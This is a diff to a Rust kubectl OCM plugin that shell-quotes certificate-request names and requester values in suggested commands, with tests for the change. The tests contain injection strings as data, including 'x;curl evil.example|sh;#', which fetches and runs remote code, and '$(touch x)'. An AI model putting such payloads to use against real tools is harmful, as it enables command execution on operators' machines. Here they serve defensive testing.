@@ -3,7 +3,7 @@
 use jiff::Timestamp;
 use ocm_core::accept::{Help, Options, Refusal};
 use ocm_core::csr::Settings;
-use ocm_core::token::shell;
+use ocm_core::token::{option, shell};
 
 /// What to type, to accept or only to approve it.
 pub(crate) fn words(cluster: &str, help: &Help, approve_only: bool) -> String {
@@ -43,11 +43,13 @@ pub(crate) fn words(cluster: &str, help: &Help, approve_only: bool) -> String {
             "wait for its request with --wait; if you know the cluster and it needs none: {command} --without-request"
         ),
         Help::AsRegistered => format!("if that is meant: {command} --as-registered"),
-        Help::ClusterSet(set) => format!("if clusters may choose this set, add --cluster-set {set}"),
-        Help::Requester(user) => format!("if {user:?} is to register clusters, add --requester {user:?}"),
+        Help::ClusterSet(set) => format!("if clusters may choose this set, add {}", option("--cluster-set", set)),
+        Help::Requester(user) => {
+            format!("if {user:?} is to register clusters, add {}", option("--requester", user))
+        }
         Help::Lifetime => "if you want that, raise --max-lifetime".to_owned(),
-        Help::Request(request) => format!("look at it: kubectl get csr {request} -o yaml"),
-        Help::AskAgain(request) => format!("to let it ask again: kubectl delete csr {request}"),
+        Help::Request(request) => format!("look at it: kubectl get {} -o yaml", named(request)),
+        Help::AskAgain(request) => format!("to let it ask again: kubectl delete {}", named(request)),
         Help::ByName(name) if approve_only => {
             format!("to approve it by its name: kubectl ocm accept {name} --approve-only")
         }
@@ -58,6 +60,11 @@ pub(crate) fn words(cluster: &str, help: &Help, approve_only: bool) -> String {
         }
         Help::Again => "look at it again and repeat the command".to_owned(),
     }
+}
+
+/// A certificate request as an argument of kubectl. Whoever makes one chooses its name, of nearly any characters.
+fn named(request: &str) -> String {
+    shell(&format!("csr/{request}"))
 }
 
 /// The command that accepts a cluster with these options.
@@ -78,7 +85,7 @@ pub(crate) fn command(cluster: &str, options: &Options) -> String {
     let sets = cluster_sets.iter().map(|set| ("--cluster-set", set));
     let requesters = settings.requesters.iter().map(|user| ("--requester", user));
     for (flag, value) in fingerprint.chain(sets).chain(requesters) {
-        line += &format!(" {flag} {}", shell(value));
+        line += &format!(" {}", option(flag, value));
     }
     let lifetime = settings.max_lifetime_seconds;
     if lifetime != Settings::default().max_lifetime_seconds {
@@ -101,4 +108,30 @@ pub(crate) fn question(cluster: &str, refusal: &Refusal, approve_only: bool) -> 
 
 fn day(time: Timestamp) -> String {
     time.to_string().split('T').next().unwrap_or_default().to_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_that_strangers_choose_are_words_of_a_command_and_no_more() {
+        let words = |help: Help| words("c1", &help, false);
+        let request = "x;curl evil.example|sh;#";
+        let look = "look at it: kubectl get 'csr/x;curl evil.example|sh;#' -o yaml";
+        assert_eq!(words(Help::Request(request.to_owned())), look);
+        let again = "to let it ask again: kubectl delete 'csr/x;curl evil.example|sh;#'";
+        assert_eq!(words(Help::AskAgain(request.to_owned())), again);
+        assert_eq!(words(Help::AskAgain("--all".to_owned())), "to let it ask again: kubectl delete csr/--all");
+        let user = |user: &str| words(Help::Requester(user.to_owned()));
+        assert!(user("$(touch x)").ends_with(", add --requester '$(touch x)'"));
+        assert!(user("--without-request").ends_with(", add --requester=--without-request"));
+    }
+
+    #[test]
+    fn the_command_names_requesters_as_words() {
+        let requesters = ["$(touch x)", "-x"].map(str::to_owned).into();
+        let options = Options { settings: Settings { requesters, ..Settings::default() }, ..Options::default() };
+        assert_eq!(command("c1", &options), "kubectl ocm accept c1 --requester '$(touch x)' --requester=-x");
+    }
 }
